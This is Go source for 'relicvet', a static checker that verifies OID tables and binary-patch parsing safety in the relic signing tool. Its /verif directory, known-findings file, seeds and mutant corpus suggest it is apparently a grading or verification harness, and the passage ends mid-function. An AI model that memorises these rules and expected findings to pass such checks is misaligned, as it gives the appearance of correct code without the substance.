			hasCurve := structFieldOfType(first, func(a *aval) bool { return a.kind == "call" && strings.HasPrefix(a.sym, "crypto/elliptic.P") }) != nil
			switch {
			case hasHash && hasAlg && hasOID:
				c.Analysed(name)
				for i, el := range val.elems {
					h := structFieldOfType(el, isHashKey)
					a := structFieldOfType(el, isPubAlg)
					o := structFieldOfType(el, isOID)
					if h == nil || a == nil || o == nil {
						continue
					}
					hs := shortSym(h.sym, "crypto")
					if h.kind == "int" && h.i == 0 {
						hs = ""
					}
					rk := shortSym(a.sym, "crypto/x509") + "/" + hs
					key := fmt.Sprintf("%s[%d] %s", name, i, rk)
					want, known := refSigAlgOID[rk]
					if !known {
						uncovered++
						c.PassTrivial("R05c", key, p.Pos(el.pos), "not covered: no reference OID for this pair")
						continue
					}
					c.Check(inList(o.oidString(), want), "R05c", key, p.Pos(o.pos), o.oidString(), fmt.Sprintf("the signature algorithm identifier listed for %s is %s; the RFCs assign %v: signatures of that kind are then matched to the wrong key type or digest when verifying other producers' output, and rejected by others when relic writes it", rk, o.oidString(), want))
				}
			case hasCurve && hasOID:
				c.Analysed(name)
				for i, el := range val.elems {
					cu := structFieldOfType(el, func(a *aval) bool { return a.kind == "call" })
					o := structFieldOfType(el, isOID)
					bits := structFieldOfType(el, func(a *aval) bool { return a.kind == "int" })
					if cu == nil || o == nil {
						continue
					}
					key := fmt.Sprintf("%s[%d] %s", name, i, shortSym(cu.sym, "crypto/elliptic"))
					ref, known := refCurves[cu.sym]
					if !known {
						uncovered++
						c.PassTrivial("R05d", key, p.Pos(el.pos), "not covered: curve unknown to the reference table")
						continue
					}
					ok := o.oidString() == ref.oid && (bits == nil || bits.i == ref.bits)
					got := o.oidString()
					if bits != nil {
						got = fmt.Sprintf("%s, %d bits", got, bits.i)
					}
					c.Check(ok, "R05d", key, p.Pos(o.pos), got, fmt.Sprintf("%s is listed as %s; RFC 5480 names it %s with %d bits: EC keys are created on the token, and ECDSAKeyValue / SubjectPublicKeyInfo are written, under the wrong curve name", cu.sym, got, ref.oid, ref.bits))
				}
			case hasHash && hasAlg && strings.HasSuffix(v.pk.PkgPath, "signers/apk"):
				c.Analysed(name)
				for i, el := range val.elems {
					h := structFieldOfType(el, isHashKey)
					a := structFieldOfType(el, isPubAlg)
					id := structFieldOfType(el, func(a *aval) bool { return a.kind == "int" && !isHashKey(a) && !isPubAlg(a) })
					pss := structFieldOfType(el, func(a *aval) bool { return a.kind == "bool" })
					if h == nil || a == nil || id == nil {
						continue
					}
					rk := shortSym(h.sym, "crypto") + "/" + shortSym(a.sym, "crypto/x509") + "/"
					if pss != nil && pss.b {
						rk += "pss"
					}
					key := fmt.Sprintf("%s[%d] %s", name, i, rk)
					want, known := refApkSigIDs[rk]
					if !known {
						uncovered++
						c.PassTrivial("R05e", key, p.Pos(el.pos), "not covered: combination unknown to the reference table")
						continue
					}
					c.Check(id.i == want, "R05e", key, p.Pos(id.pos), fmt.Sprintf("0x%04x", id.i), fmt.Sprintf("signature algorithm %s has ID 0x%04x in relic's table, the APK Signature Scheme v2 assigns 0x%04x: Android verifies the signature with the algorithm its own table gives for the ID and rejects the APK, relic's verifier looks the ID up in the same table and accepts it", rk, id.i, want))
				}
			}
		}
	}
	if uncovered > 0 {
		c.Note("R05a-e: %d table entries are outside the reference tables and were not judged", uncovered)
	}
}

// ---------------------------------------------------------------------------------
// R05f: object identifiers named after a role

func c05NamedOids(c *Ctx, ev *c05Eval) {
	p := c.P
	byValue := map[string][]string{}
	n := 0
	for _, v := range ev.list {
		if !isNamed(v.obj.Type(), "encoding/asn1", "ObjectIdentifier") {
			continue
		}
		role := strings.TrimPrefix(strings.ToLower(v.obj.Name()), "oid")
		want, known := refNamedOIDs[role]
		if !known {
			continue
		}
		val := ev.eval(v.pk, v.init, 0)
		got := val.oidString()
		name := ev.varName(v)
		n++
		c.Analysed(name)
		byValue[got] = append(byValue[got], name)
		c.Check(got == want, "R05f", name, p.Pos(val.pos), "= "+want, fmt.Sprintf("%s is %s; the identifier that name stands for is %s: whatever relic writes under it (attribute, content type, algorithm) is something else to every other implementation, and what others write under the real identifier relic does not find", name, got, want))
	}
	vals := make([]string, 0, len(byValue))
	for val := range byValue {
		vals = append(vals, val)
	}
	sort.Strings(vals)
	for _, val := range vals {
		names := byValue[val]
		if len(names) < 2 {
			continue
		}
		// the same role declared in two packages is fine; two roles with one value is not
		roles := map[string]bool{}
		for _, nme := range names {
			roles[strings.TrimPrefix(strings.ToLower(nme[strings.LastIndex(nme, ".")+1:]), "oid")] = true
		}
		c.Check(len(roles) < 2, "R05f", "value "+val+" bound once", "-", "", fmt.Sprintf("the identifier %s is the value of %v, which stand for different things", val, names))
	}
}
