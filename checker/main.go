// relicvet — repository-specific static checker for sassoftware/relic.
//
//	relicvet -property C04 -tier quick|thorough [-repo /repo] [-verif /verif]
//	relicvet -replay /verif/out/C04/<rule>-<n>.json
//
// Every run re-loads /repo's current working tree (go/packages + go/types + go/ssa);
// nothing is executed, nothing is cached between runs.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime/debug"
	"sort"
	"strconv"
)

type propDef struct {
	ID   string
	Meta propMeta
	Run  func(c *Ctx)
	// Thorough, when non-nil, runs after Run in the thorough tier.
	Thorough func(c *Ctx)
}

var registry = map[string]*propDef{}

func register(d *propDef) { registry[d.ID] = d }

func main() {
	prop := flag.String("property", "", "property id (C01..C20)")
	tier := flag.String("tier", "quick", "quick|thorough")
	repo := flag.String("repo", "/repo", "repository to analyse")
	verif := flag.String("verif", "/verif", "verification directory (KNOWN_FINDINGS.txt, out/, evidence/)")
	evid := flag.String("evidence", "", "evidence file (default <verif>/evidence/<id>.json)")
	replay := flag.String("replay", "", "print a stored report and re-run its property")
	list := flag.Bool("list", false, "list properties with a registered check")
	flag.Parse()

	if *list {
		ids := make([]string, 0, len(registry))
		for id := range registry {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		for _, id := range ids {
			fmt.Println(id)
		}
		return
	}
	if *replay != "" {
		b, err := os.ReadFile(*replay)
		if err != nil {
			fmt.Println("cannot read report:", err)
			os.Exit(2)
		}
		var rep map[string]any
		json.Unmarshal(b, &rep)
		fmt.Printf("stored report:\n%s\n\nre-deriving on the current tree:\n", b)
		if id, _ := rep["property"].(string); id != "" {
			*prop = id
		}
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && !isFlagSet("tier") {
		*tier = t
	}
	seed := 0
	if s := os.Getenv("VERIF_SEED"); s != "" {
		seed, _ = strconv.Atoi(s)
	}
	def := registry[*prop]
	if def == nil {
		fmt.Printf("no check registered for property %q\n", *prop)
		os.Exit(2)
	}
	if *tier != "quick" && *tier != "thorough" {
		fmt.Println("tier must be quick or thorough")
		os.Exit(2)
	}
	if *evid == "" {
		*evid = filepath.Join(*verif, "evidence", def.ID+".json")
	}
	os.Remove(*evid)
	os.Exit(runProperty(def, *tier, *repo, *verif, *evid, seed))
}

func isFlagSet(name string) bool {
	set := false
	flag.Visit(func(f *flag.Flag) {
		if f.Name == name {
			set = true
		}
	})
	return set
}

func runProperty(def *propDef, tier, repo, verif, evid string, seed int) (code int) {
	c := NewCtx(def.ID, tier)
	var fatal error
	defer func() {
		if r := recover(); r != nil {
			fatal = fmt.Errorf("checker panic: %v\n%s", r, debug.Stack())
			code = c.Finish(verif, evid, def.Meta, seed, fatal)
		}
	}()
	p, err := Load(LoadOpts{Dir: repo, MinPkgs: 80})
	if err != nil {
		fatal = err
	} else {
		c.P = p
		c.Config = "default(linux/amd64,cgo)"
		c.configs = append(c.configs, p.Config)
		def.Run(c)
		if tier == "thorough" && def.Thorough != nil {
			def.Thorough(c)
		}
		if tier == "thorough" {
			runMutantCorpus(c, repo, verif)
		}
	}
	return c.Finish(verif, evid, def.Meta, seed, fatal)
}
