package main

// C12 — binary patches apply exactly, in place or by rewrite.

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C12",
		Meta: propMeta{
			Explanation: "Decides the structural mechanisms behind patch application: (R12a) the patch parser rejects instead of crashing: no allocation in lib/binpatch is sized by an unchecked header field (integer-taint rule) and every read error in Load is propagated; (R12b) parse-before-touch: every call of (*PatchSet).Apply outside the package receives a PatchSet that binpatch.Load returned with a nil error for the same blob, and nothing writes the source or destination before it; (R12c) Dump and Load agree on the wire format: same byte order value, same sequence of record types (PatchSetHeader, []PatchHeader, blobs in header order), version written == version accepted, count written == len(Patches), Dump sorts before writing; (R12d) every int64->uint32 narrowing in PatchSet.Add is guarded by a comparison with uint32Max, and the >4 GiB splitting loop advances offset and size by the same amount; (R12e) the in-place writes are reachable only if every patch but the last is size-preserving and the last ends at EOF (both tests on every loop path), under canOverwrite; the rewrite path rejects out-of-order patches before copying and goes through lib/atomicfile. (R12f) lib/binpatch writes only into byte slices it allocated itself; (R12g) ordering tests between a patch and the end of the previous one accept touching ranges; (R12h) headers and blobs are permuted together: the sorter wraps the set itself or a copy of both slices; (R12i) the hard-link probe asserts FileInfo.Sys() to *syscall.Stat_t, the type the os package returns. (R12j) the size the in-place path truncates the file to is assigned from the last patch and not maximised against the old size, so a patch that shortens the file does shorten it. (R12k) no function result is memory of an object that went back into a sync.Pool (shared with C14 R14e), so a serialised patch cannot be overwritten by the next request's; (R12l) atomicfile.New creates the rewrite strategy's temporary file with a unique name, in filepath.Dir of the destination (shared with C13 R13a); (R12m) signers.ApplyBinPatch returns nil only as the result of PatchSet.Apply. (R12p) every non-nil error ApplyBinPatch returns is the result of ReadAll, binpatch.Load or PatchSet.Apply: no check of its own refuses a patch the format defines as valid.",
			NotDecided:  "the arithmetic of coalescing/splicing and the equality of the in-place and rewrite results (behavioural over byte strings).",
			Assumptions: []string{"uint32(len(blob)) is outside the narrowing rule: relic's builders do not construct >4 GiB in-memory blobs"},
		},
		Run: runC12,
	})
}

func runC12(c *Ctx) {
	p := c.P
	c.Rule("R12a", "lib/binpatch: no allocation sized by an unchecked header field; Load propagates every read error", 5)
	c.Rule("R12b", "PatchSet.Apply is called only on the result of a successful binpatch.Load of the same blob, before anything is written", 2)
	c.Rule("R12c", "Dump and Load agree: byte order, record sequence, version, count; Dump sorts first", 6)
	c.Rule("R12d", "int64->uint32 narrowings in PatchSet.Add are guarded by a comparison with uint32Max", 3)
	c.Rule("R12e", "in-place writes only when all but the last patch are size-preserving and the last ends at EOF; rewrite path rejects unordered patches", 5)

	c.Rule("R12j", "the in-place path truncates the file to the end of its last patch, not to a maximum that includes the old size (shared with C08 R08g)", 1)
	for _, f := range truncateNotMax(p) {
		c.Check(f.OK, "R12j", f.Key, f.Pos, "assigned, not maximised", f.Detail)
	}
	// ---- R12a
	t := newTaintEngine(p)
	for _, f := range t.scan() {
		pk := pkgOf(f.Fn)
		if pk == nil || p.Rel(pk.Path()) != "lib/binpatch" {
			continue
		}
		key := fmt.Sprintf("%s %s", p.FName(f.Fn), f.What)
		if why, ok := taintExceptions[key]; ok {
			c.PassTrivial("R12a", key, p.Pos(f.Instr.Pos()), "exception: "+why)
			continue
		}
		if f.OK {
			c.Pass("R12a", key, p.Pos(f.Instr.Pos()), "bounded before use")
		} else {
			c.Fail("R12a", key, p.Pos(f.Instr.Pos()), "allocation sized by "+f.Origin+" with no bounding comparison: a 24-byte 'patch' makes the client allocate gigabytes or panic instead of rejecting it", f.Path...)
		}
	}
	c.runControl("R12a unchecked allocation control (ctl/alloc.Parse)", "alloc.Parse make", func(cp *Prog) []gFinding {
		var out []gFinding
		for _, f := range newTaintEngine(cp).scan() {
			out = append(out, gFinding{Key: fmt.Sprintf("%s %s", cp.FName(f.Fn), f.What), OK: f.OK})
		}
		return out
	})
	load := p.Func("lib/binpatch.Load")
	if load == nil {
		c.Undecided("R12a", "binpatch.Load", "-", "function not found")
	} else {
		c.Analysed(p.FName(load))
		n := 0
		for _, b := range load.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if name != "encoding/binary.Read" && name != "io.ReadFull" && name != "io.ReadAtLeast" {
					continue
				}
				n++
				key := fmt.Sprintf("lib/binpatch.Load %s#%d", name, n)
				if errDisposition(ci) == errDropped {
					c.Fail("R12a", key, p.Pos(ci.Pos()), "read error discarded: a truncated patch is accepted")
					continue
				}
				if r, path := p.failureReachesSuccess(load, errValueOf(ci)); r != nil {
					c.Fail("R12a", key, p.Pos(ci.Pos()), "a failed read can end in a successful Load", path...)
				} else {
					c.Pass("R12a", key, p.Pos(ci.Pos()), "error propagated")
				}
			}
		}
		// version gate
		ver := Guard{Name: "Version==1", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok {
				return false
			}
			_, fld, _ := p.fieldLoad(bo.X)
			if fld != "Version" || !isIntConst(bo.Y, 1) {
				return false
			}
			return (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.EQL && f.Kind == IsTrue)
		}}
		for i, r := range p.successReturns(load) {
			missing, path := p.unguardedFromEntry(load, r, ver)
			c.Check(len(missing) == 0, "R12c", fmt.Sprintf("lib/binpatch.Load accepts only version 1#%d", i+1), p.Pos(r.Pos()), "", "Load accepts a patch without checking the format version", path...)
		}
	}

	// ---- R12b
	nApply := 0
	for _, fn := range p.Funcs {
		if pk := pkgOf(fn); pk != nil && p.Rel(pk.Path()) == "lib/binpatch" {
			continue
		}
		for _, ci := range p.callsIn(fn, "(*lib/binpatch.PatchSet).Apply") {
			nApply++
			c.Analysed(p.FName(fn))
			key := fmt.Sprintf("%s calls PatchSet.Apply#%d", p.FName(fn), nApply)
			recv := ci.Common().Args[0]
			src, idx := resultOf(recv)
			okSrc := src != nil && idx == 0 && p.calleeName(src.Common()) == "lib/binpatch.Load"
			if !okSrc {
				c.Fail("R12b", key, p.Pos(ci.Pos()), "the patch applied was not parsed by binpatch.Load in this function (a locally built or unparsed patch reaches the file)")
				continue
			}
			g := Guard{Name: "Load err==nil", Match: func(f Fact) bool {
				call, i := resultOf(f.V)
				return f.Kind == IsNil && call == src && i == 1
			}}
			missing, path := p.unguardedFromEntry(fn, ci, g)
			c.Check(len(missing) == 0, "R12b", key, p.Pos(ci.Pos()), "applied only after Load returned nil", "the patch is applied although parsing it failed", path...)
			// nothing touches the files before: no call using the *os.File / dest params precedes Load's success
			touched := false
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					k, ok := in.(ssa.CallInstruction)
					if !ok || k == ci {
						continue
					}
					nm := p.calleeName(k.Common())
					if strings.HasPrefix(nm, "(*os.File).Write") || nm == "(*os.File).Truncate" || nm == "os.Create" || nm == "os.OpenFile" || nm == "os.Remove" || nm == "os.Rename" || strings.HasPrefix(nm, "lib/atomicfile.") {
						if !reachableAfter(fn, ci, k, nil, nil) || reachableAfter(fn, k, ci, nil, nil) {
							touched = true
						}
					}
				}
			}
			c.Check(!touched, "R12b", key+" untouched-before", p.Pos(ci.Pos()), "no file is opened for writing or written before the patch parsed", "the target is written or opened for writing before the patch has been parsed")
		}
	}
	c.Check(nApply >= 1, "R12b", "PatchSet.Apply callers", "-", "", "no caller of PatchSet.Apply found")

	c12Wire(c)
	c12Add(c)
	c12InPlace(c)
	c12Ownership(c)
	c12Touching(c)
	c12Aligned(c)
	c12Round3(c)
}

func c12Ownership(c *Ctx) {
	p := c.P
	c.Rule("R12f", "lib/binpatch writes (copy / append / element store) only into byte slices it allocated itself, never into caller-provided blobs or blobs already stored in the PatchSet", 1)
	n := 0
	for _, fn := range p.Funcs {
		if pk := pkgOf(fn); pk == nil || p.Rel(pk.Path()) != "lib/binpatch" {
			continue
		}
		foreign := func(v ssa.Value) (string, bool) {
			// a []byte that comes from a parameter or from PatchSet.Blobs, not from make()
			if t, ok := v.Type().Underlying().(*types.Slice); !ok || intWidth(t.Elem()) != 8 {
				return "", false
			}
			fresh := dependsOn(v, func(x ssa.Value) bool { _, ok := x.(*ssa.MakeSlice); return ok })
			if fresh {
				return "", false
			}
			if dependsOn(v, func(x ssa.Value) bool { return p.memKey(x) == "f:lib/binpatch.PatchSet.Blobs" }) {
				return "a blob stored in the PatchSet", true
			}
			if dependsOn(v, func(x ssa.Value) bool { _, ok := x.(*ssa.Parameter); return ok && x.Type().String() == "[]byte" }) {
				return "a caller-provided blob", true
			}
			return "", false
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				var dst ssa.Value
				what := ""
				switch x := in.(type) {
				case *ssa.Call:
					if bi, ok := x.Call.Value.(*ssa.Builtin); ok {
						switch bi.Name() {
						case "copy":
							dst, what = x.Call.Args[0], "copy into"
						case "append":
							dst, what = x.Call.Args[0], "append to"
						}
					}
				case *ssa.Store:
					if ia, ok := x.Addr.(*ssa.IndexAddr); ok {
						dst, what = ia.X, "element store into"
					}
				}
				if dst == nil {
					continue
				}
				if t, ok := dst.Type().Underlying().(*types.Slice); !ok || intWidth(t.Elem()) != 8 {
					continue
				}
				n++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), strings.Fields(what)[0], n)
				c.Analysed(p.FName(fn))
				if src, bad := foreign(dst); bad {
					c.Fail("R12f", key, p.Pos(in.Pos()), what+" "+src+": the bytes may live in a buffer the caller still uses (append writes into its spare capacity), so earlier patch content or the caller's data is silently overwritten")
				} else {
					c.Pass("R12f", key, p.Pos(in.Pos()), "destination allocated here")
				}
			}
		}
	}
}

// c12Touching (R12g): Add produces adjacent, un-coalesced ranges (offset == previous end)
// in legitimate cases, so every ordering test between a patch offset and the running end
// of the previous patch must accept equality.
func c12Touching(c *Ctx) {
	p := c.P
	c.Rule("R12g", "every ordering test between a patch's Offset and the end of the previous patch accepts touching ranges (Offset == previous end)", 1)
	n := 0
	for _, fn := range p.Funcs {
		if pk := pkgOf(fn); pk == nil || p.Rel(pk.Path()) != "lib/binpatch" {
			continue
		}
		isOffset := func(v ssa.Value) bool {
			return dependsOn(v, func(x ssa.Value) bool { _, f, _ := p.fieldLoad(x); return f == "Offset" })
		}
		// a running position: a phi carried around a loop
		isRunning := func(v ssa.Value) bool {
			return dependsOn(v, func(x ssa.Value) bool {
				ph, ok := x.(*ssa.Phi)
				if !ok || intWidth(ph.Type()) != 64 || !inCycleWith(fn, ph.Block(), nil) {
					return false
				}
				// accumulates patch extents (not the loop index)
				for _, e := range ph.Edges {
					if dependsOn(e, func(y ssa.Value) bool {
						_, f, _ := p.fieldLoad(y)
						return f == "Offset" || f == "OldSize"
					}) {
						return true
					}
				}
				return false
			})
		}
		succ := p.successReturns(fn)
		for _, b := range fn.Blocks {
			ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
			if !ok {
				continue
			}
			bo, ok := ifi.Cond.(*ssa.BinOp)
			if !ok {
				continue
			}
			var cur, prev ssa.Value
			op := bo.Op
			switch {
			case isOffset(bo.X) && isRunning(bo.X) && isIntConst(bo.Y, 0):
				// delta := patch.Offset - pos; delta < 0
				cur, prev = bo.X, bo.Y
			case isOffset(bo.X) && !isRunning(bo.X) && isRunning(bo.Y):
				cur, prev = bo.X, bo.Y
			case isOffset(bo.Y) && !isRunning(bo.Y) && isRunning(bo.X):
				cur, prev = bo.Y, bo.X
				switch op {
				case token.LSS:
					op = token.GTR
				case token.LEQ:
					op = token.GEQ
				case token.GTR:
					op = token.LSS
				case token.GEQ:
					op = token.LEQ
				}
			default:
				continue
			}
			_ = cur
			_ = prev
			switch op {
			case token.LSS, token.LEQ, token.GTR, token.GEQ:
			default:
				continue
			}
			// which edge rejects (cannot reach a success return)?
			rejects := func(si int) bool {
				seen := reach(fn, []*ssa.BasicBlock{b.Succs[si]}, nil, nil)
				for _, r := range succ {
					if seen[r.Block().Index] {
						return false
					}
				}
				return len(succ) > 0
			}
			rt, rf := rejects(0), rejects(1)
			if rt == rf {
				continue // not a validity test
			}
			n++
			// is equality on the rejecting side?  cur OP prev with equality: true for <=,>= ; false for <,>
			eqTrue := op == token.LEQ || op == token.GEQ
			eqRejected := (rt && eqTrue) || (rf && !eqTrue)
			// only tests of the form "cur before prev => reject" concern us: reject side is cur<prev or cur<=prev
			key := fmt.Sprintf("%s offset-order test#%d", p.FName(fn), n)
			c.Analysed(p.FName(fn))
			c.Check(!eqRejected, "R12g", key, p.Pos(ifi.Pos()), "a range that starts exactly where the previous one ended is accepted", "this ordering test rejects a patch that starts exactly at the end of the previous one; PatchSet.Add produces such touching ranges (coalescing limits, non-consecutive adds), so a valid patch set fails after Dump/Load or cannot be applied")
		}
	}
}

func c12Wire(c *Ctx) {
	p := c.P
	load, dump := p.Func("lib/binpatch.Load"), p.Func("lib/binpatch.(*PatchSet).Dump")
	if load == nil || dump == nil {
		c.Undecided("R12c", "binpatch.Load/Dump", "-", "function not found")
		return
	}
	c.Analysed(p.FName(dump))
	seq := func(fn *ssa.Function, callee string, dataIdx int) (types []string, orders []string, calls []ssa.CallInstruction) {
		// in block order (both functions are straight-line w.r.t. these calls)
		for _, b := range fn.DomPreorder() {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok || p.calleeName(ci.Common()) != callee {
					continue
				}
				d := stripConv(ci.Common().Args[dataIdx])
				ty := d.Type()
				if pt, ok := ty.Underlying().(*typesPointer); ok {
					ty = pt.Elem()
				}
				types = append(types, typeName(p, ty))
				orders = append(orders, short(stripConv(ci.Common().Args[1]).String(), 60))
				calls = append(calls, ci)
			}
		}
		return
	}
	rt, ro, _ := seq(load, "encoding/binary.Read", 2)
	wt, wo, wcalls := seq(dump, "encoding/binary.Write", 2)
	norm := func(s []string) string { return strings.Join(s, ",") }
	for i := range rt {
		rt[i] = strings.TrimPrefix(rt[i], "*")
	}
	c.Check(len(rt) == 2 && norm(rt) == norm(wt), "R12c", "binpatch record sequence", p.Pos(dump.Pos()), "Load reads "+norm(rt)+"; Dump writes "+norm(wt), fmt.Sprintf("Load reads [%s] but Dump writes [%s]: the parser and the serialiser disagree on the record sequence", norm(rt), norm(wt)))
	sameOrder := len(ro) > 0 && len(wo) > 0
	for _, o := range append(append([]string{}, ro...), wo...) {
		if o != ro[0] {
			sameOrder = false
		}
	}
	c.Check(sameOrder, "R12c", "binpatch byte order", p.Pos(dump.Pos()), "one byte order: "+ro[0], fmt.Sprintf("byte orders differ between Load %v and Dump %v", ro, wo))
	// header literal: Version 1, NumPatches = len(p.Patches)
	okVer, okNum := false, false
	for _, b := range dump.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			tn, f, _ := p.fieldAddr(st.Addr)
			if tn != "lib/binpatch.PatchSetHeader" {
				continue
			}
			if f == "Version" && isIntConst(st.Val, 1) {
				okVer = true
			}
			if f == "NumPatches" {
				okNum = dependsOn(st.Val, func(x ssa.Value) bool {
					call, ok := x.(*ssa.Call)
					if !ok {
						return false
					}
					bi, ok := call.Call.Value.(*ssa.Builtin)
					return ok && bi.Name() == "len" && p.memKey(call.Call.Args[0]) == "f:lib/binpatch.PatchSet.Patches"
				})
			}
		}
	}
	c.Check(okVer, "R12c", "Dump writes version 1", p.Pos(dump.Pos()), "", "Dump does not write the version Load accepts")
	c.Check(okNum, "R12c", "Dump writes the patch count", p.Pos(dump.Pos()), "NumPatches = len(p.Patches)", "the patch count written is not len(p.Patches)")
	// sort precedes the writes
	sorts := p.callsIn(dump, "sort.Sort", "sort.Stable", "sort.Slice", "sort.SliceStable")
	okSort := len(sorts) >= 1
	for _, w := range wcalls {
		if okSort && avoidable(dump, sorts[0], w) {
			okSort = false
		}
	}
	c.Check(okSort, "R12c", "Dump sorts before writing", p.Pos(dump.Pos()), "patches sorted by offset before serialisation", "Dump does not sort the patches before writing them (the applier requires ascending offsets)")
	// blobs written in header order: the Write(blob) loop ranges over p.Blobs
	okBlobs := false
	for _, ci := range p.callsIn(dump, "(*bytes.Buffer).Write") {
		if dependsOn(ci.Common().Args[1], func(x ssa.Value) bool { return p.memKey(x) == "f:lib/binpatch.PatchSet.Blobs" }) && inCycleWith(dump, ci.Block(), nil) {
			okBlobs = true
		}
	}
	c.Check(okBlobs, "R12c", "Dump writes blobs in order", p.Pos(dump.Pos()), "", "Dump does not write every blob of p.Blobs")
	// Load reads blob i of size Patches[i].NewSize into Blobs[i]
	okRead := false
	for _, ci := range p.callsIn(load, "io.ReadFull") {
		if inCycleWith(load, ci.Block(), nil) {
			okRead = true
		}
	}
	c.Check(okRead, "R12c", "Load reads each blob", p.Pos(load.Pos()), "", "Load does not read one blob per patch header")
}

type typesPointer = types.Pointer

func c12Add(c *Ctx) {
	p := c.P
	add := p.Func("lib/binpatch.(*PatchSet).Add")
	if add == nil {
		c.Undecided("R12d", "(*PatchSet).Add", "-", "function not found")
		return
	}
	c.Analysed(p.FName(add))
	n := 0
	// Add and the helpers of its package it calls (a step of Add that was given a name)
	family := []*ssa.Function{add}
	for _, b := range add.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok {
				if g := ci.Common().StaticCallee(); g != nil && pkgOf(g) == pkgOf(add) && len(g.Blocks) > 0 && g != add {
					family = append(family, g)
				}
			}
		}
	}
	for _, add := range family {
		for _, b := range add.Blocks {
			for _, in := range b.Instrs {
				cv, ok := in.(*ssa.Convert)
				if !ok || intWidth(cv.Type()) != 32 || intWidth(cv.X.Type()) != 64 {
					continue
				}
				// uint32(len(blob)) is out of the rule's domain
				if call, ok := cv.X.(*ssa.Call); ok {
					if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
						continue
					}
				}
				if cvx, ok := cv.X.(*ssa.Convert); ok {
					if call, ok := cvx.X.(*ssa.Call); ok {
						if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
							continue
						}
					}
				}
				n++
				x := cv.X
				g := Guard{Name: "x <= uint32Max", Match: func(f Fact) bool {
					bo, ok := f.V.(*ssa.BinOp)
					if !ok {
						return false
					}
					k, isK := constInt(bo.Y)
					if !isK || k != 0xffffffff {
						return false
					}
					if bo.X != x && !dependsOn(x, func(y ssa.Value) bool { return y == bo.X }) && !dependsOn(bo.X, func(y ssa.Value) bool { return y == x }) {
						return false
					}
					t := f.Kind == IsTrue
					switch bo.Op {
					case token.LEQ:
						return t
					case token.GTR:
						return !t
					case token.LSS:
						return t
					}
					return false
				}}
				missing, path := p.unguardedFromEntry(add, cv, g)
				c.Check(len(missing) == 0, "R12d", fmt.Sprintf("(*lib/binpatch.PatchSet).Add uint32(%s)#%d", short(x.Name(), 12), n), p.Pos(cv.Pos()), "narrowing only after comparison with uint32Max", "an int64 size is narrowed to uint32 without a comparison against uint32Max: ranges over 4 GiB are silently truncated", path...)
			}
		}
	}
	c.Check(n >= 3, "R12d", "(*lib/binpatch.PatchSet).Add narrowings found", p.Pos(add.Pos()), "", fmt.Sprintf("%d int64->uint32 narrowings found, expected 3", n))
}

// c12RuleInPlace: the rule id c12InPlace reports under (C08 shares the rule as R08h).
var c12RuleInPlace = "R12e"

func c12InPlace(c *Ctx) {
	p := c.P
	ap := p.Func("lib/binpatch.(*PatchSet).Apply")
	rw := binpatchRewriteFn(p)
	if ap == nil || rw == nil {
		c.Undecided(c12RuleInPlace, "(*PatchSet).Apply/applyRewrite", "-", "function not found")
		return
	}
	c.Analysed(p.FName(ap))
	c.Analysed(p.FName(rw))
	isField := func(v ssa.Value, f string) bool {
		_, fld, _ := p.fieldLoad(stripIntConv(v))
		return fld == f
	}
	samesize := Guard{Name: "OldSize==NewSize", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		if !((isField(bo.X, "OldSize") && isField(bo.Y, "NewSize")) || (isField(bo.X, "NewSize") && isField(bo.Y, "OldSize"))) {
			return false
		}
		return (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)
	}}
	isLast := Guard{Name: "i==len(Patches)-1", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		isLenMinus1 := func(v ssa.Value) bool {
			s, ok := v.(*ssa.BinOp)
			if !ok || s.Op != token.SUB || !isIntConst(s.Y, 1) {
				return false
			}
			call, ok := s.X.(*ssa.Call)
			if !ok {
				return false
			}
			bi, ok := call.Call.Value.(*ssa.Builtin)
			return ok && bi.Name() == "len"
		}
		if !isLenMinus1(bo.X) && !isLenMinus1(bo.Y) {
			return false
		}
		return (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.EQL && f.Kind == IsTrue)
	}}
	// the eligibility tests sit in Apply itself, or in a helper of the package that Apply asks
	// ("can this be done in place, and how long is the file afterwards?")
	host, via := ap, ssa.CallInstruction(nil)
	if len(passEdges(ap, samesize)) == 0 {
		for _, b := range ap.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				g := ci.Common().StaticCallee()
				if g == nil || pkgOf(g) != pkgOf(ap) || len(g.Blocks) == 0 || g == rw {
					continue
				}
				if len(passEdges(g, samesize)) > 0 && via == nil {
					host, via = g, ci
				}
			}
		}
	}
	// a value of the helper that is one of its parameters stands for what Apply passed
	actual := func(v ssa.Value) ssa.Value {
		if pa, ok := v.(*ssa.Parameter); ok && via != nil {
			for k, hp := range host.Params {
				if hp == pa && k < len(via.Common().Args) {
					return via.Common().Args[k]
				}
			}
		}
		return v
	}
	isFileSize := func(v ssa.Value) bool {
		call, ok := actual(stripIntConv(v)).(*ssa.Call)
		return ok && strings.HasSuffix(p.calleeName(call.Common()), ".Size")
	}
	atEOF := Guard{Name: "oldEnd==file size", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		isSize := isFileSize
